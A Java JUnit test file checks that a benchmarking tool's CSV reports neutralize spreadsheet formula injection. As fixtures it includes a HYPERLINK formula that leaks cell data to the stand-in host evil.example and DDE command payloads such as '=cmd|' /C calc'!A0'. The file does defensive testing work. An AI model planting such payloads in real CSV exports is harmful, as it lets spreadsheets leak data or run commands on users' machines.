package dev.kubebench.report.csv;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.kubebench.collector.result.MeasurementKind;
import dev.kubebench.collector.result.RunResult;
import dev.kubebench.core.trial.TrialState;
import dev.kubebench.report.Fixtures;
import dev.kubebench.report.Golden;
import dev.kubebench.report.RunReport;
import dev.kubebench.report.TrialReport;
import dev.kubebench.report.analysis.plan.CapacityPlan;
import dev.kubebench.report.analysis.plan.CapacityPlanner;
import dev.kubebench.report.analysis.plan.CapacityPlannerTest;
import dev.kubebench.report.analysis.plan.Measurement;
import dev.kubebench.report.analysis.plan.PlanSettings;
import dev.kubebench.core.metric.Direction;
import dev.kubebench.report.analysis.trend.TrendResult;
import dev.kubebench.report.analysis.trend.TrendSeries;
import java.io.IOException;
import java.io.StringReader;
import java.io.StringWriter;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/** Issue 12 item 2: no CSV kubebench writes carries a cell a spreadsheet would run as a formula. */
class CsvInjectionTest {
    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    private static final String DDE = "=cmd|' /C calc'!A0";

    private static List<CSVRecord> parse(String csv) throws IOException {
        return CSVFormat.RFC4180.parse(new StringReader(csv)).getRecords();
    }

    /** One trial whose sweep values, labels, metric names and reason all start like formulas. */
    private static RunReport hostile() {
        Map<String, Object> point = new LinkedHashMap<>();
        point.put("model", HYPERLINK);
        point.put("lr", -0.5);
        point.put("@tag", "+1+1");
        Map<String, Double> metrics = new LinkedHashMap<>();
        metrics.put("throughput_samples_per_s", 100.0);
        metrics.put("loss_delta", -1.5);
        metrics.put(DDE, 2.0);
        Map<String, String> labels = new LinkedHashMap<>();
        labels.put("org", "@SUM(1+9)*cmd|' /C calc'!A0");
        labels.put("tabbed", "\t=1+2");
        labels.put("cr", "\r=1+2");
        Instant start = Fixtures.T0;
        RunResult r = new RunResult(RunResult.SCHEMA_VERSION,
                new RunResult.Identity("bench", Fixtures.RUN_ID, 0, point, 0, "custom/x"),
                new RunResult.Outcome(MeasurementKind.THROUGHPUT, TrialState.FAILED, "-2+3+cmd|' /C calc'!A0",
                        null, start, start.plusSeconds(60)),
                new RunResult.Measurements(metrics, List.of(), List.of(), null), labels, List.of());
        return new RunReport("bench", Fixtures.RUN_ID, "", List.of(new TrialReport(r, List.of())), List.of());
    }

    @Test
    void cellsStartingLikeFormulasGetAQuoteInsideAQuotedCell() {
        assertEquals("'=1+1", SafeCsv.neutralize("=1+1"));
        assertEquals("'@SUM(A1)", SafeCsv.neutralize("@SUM(A1)"));
        assertEquals("'+1+1", SafeCsv.neutralize("+1+1"));
        assertEquals("'-1+1", SafeCsv.neutralize("-1+1"));
        assertEquals("'\t=1", SafeCsv.neutralize("\t=1"));
        assertEquals("'\r=1", SafeCsv.neutralize("\r=1"));
        assertEquals("'-", SafeCsv.neutralize("-"));
        for (String number : List.of("-1", "-1.5", "-0.00001", "-1.0E-5", "+3", "-.5", "1000")) {
            assertEquals(number, SafeCsv.neutralize(number), "a plain number stays a number");
        }
        assertEquals("a=b", SafeCsv.neutralize("a=b"), "only the first character counts");
    }

    @Test
    void neutralizedCellsAreAlwaysQuotedAndOtherCellsKeepMinimalQuoting() throws IOException {
        StringWriter out = new StringWriter();
        SafeCsv csv = new SafeCsv(out, CSVFormat.RFC4180);
        csv.printRecord("=1+1", "-1.5", "plain", null, "", "a,b");
        assertEquals("\"'=1+1\",-1.5,plain,,,\"a,b\"\r\n", out.toString());
    }

    @Test
    void resultsCsvNeutralizesSweepValuesLabelsReasonsAndMetricHeaders() throws IOException {
        String text = Golden.render(new CsvReporter(), hostile());
        assertTrue(text.contains("\"'" + DDE + "\""), "metric name header quoted with a leading quote: " + text);
        List<CSVRecord> rows = parse(text);
        List<String> header = rows.get(0).toList();
        CSVRecord row = rows.get(1);
        assertEquals("'" + HYPERLINK, row.get(header.indexOf("param.model")));
        assertEquals("-0.5", row.get(header.indexOf("param.lr")), "a negative sweep value stays a number");
        assertEquals("'+1+1", row.get(header.indexOf("param.@tag")));
        assertEquals("-1.5", row.get(header.indexOf("loss_delta")), "a negative metric stays a number");
        assertEquals("2", row.get(header.indexOf("'" + DDE)));
        assertEquals("'@SUM(1+9)*cmd|' /C calc'!A0", row.get(header.indexOf("label.org")));
        assertEquals("'\t=1+2", row.get(header.indexOf("label.tabbed")));
        assertEquals("'\r=1+2", row.get(header.indexOf("label.cr")));
        assertEquals("'-2+3+cmd|' /C calc'!A0", row.get(header.indexOf("failure_reason")));
        assertNoFormulaCell(rows);
    }

    @Test
    void pointsCsvNeutralizesSweepValuesAndMetricHeaders() throws IOException {
        List<CSVRecord> rows = parse(Golden.render(new PointsCsvReporter(), hostile()));
        List<String> header = rows.get(0).toList();
        assertTrue(header.contains("'" + DDE + "_median"), header.toString());
        assertEquals("'" + HYPERLINK, rows.get(1).get(header.indexOf("param.model")));
        assertEquals("-0.5", rows.get(1).get(header.indexOf("param.lr")), "a negative sweep value stays a number");
        assertNoFormulaCell(rows);
    }

    @Test
    void planCsvNeutralizesPoolNames() throws IOException {
        List<Measurement> m = new ArrayList<>();
        for (int n = 1; n <= 8; n *= 2) {
            m.add(new Measurement("=HYPERLINK(\"http://evil.example\")", n, 1000.0 * n, Double.NaN, "@gpu"));
        }
        CapacityPlan plan = new CapacityPlanner(new PlanSettings(2 * 3600, Double.NaN, 0, 2),
                CapacityPlannerTest.prices()).plan(m);
        List<CSVRecord> rows = CSVFormat.DEFAULT.parse(new StringReader(PlanCsv.render(plan))).getRecords();
        assertEquals("'=HYPERLINK(\"http://evil.example\")", rows.get(1).get(0));
        assertNoFormulaCell(rows);
    }

    @Test
    void historyCsvNeutralizesMetricNamesAndPoints() throws IOException {
        TrendSeries series = new TrendSeries(DDE, "model=" + HYPERLINK, Direction.LOWER,
                List.of("r1", "r2"), List.of(Fixtures.T0, Fixtures.T0.plusSeconds(60)), new double[] {-1.5, 2});
        String csv = HistoryCsv.csv(List.of(new TrendResult(series, List.of(), Double.NaN, false, 5)));
        List<CSVRecord> rows = CSVFormat.DEFAULT.parse(new StringReader(csv)).getRecords();
        assertEquals("'" + DDE, rows.get(1).get(0));
        assertEquals("-1.5", rows.get(1).get(4));
        assertNoFormulaCell(rows);
    }

    private static void assertNoFormulaCell(List<CSVRecord> rows) {
        for (CSVRecord r : rows) {
            for (String cell : r) {
                assertFalse(SafeCsv.isFormula(cell), "formula cell " + cell + " in " + r);
            }
        }
    }
}
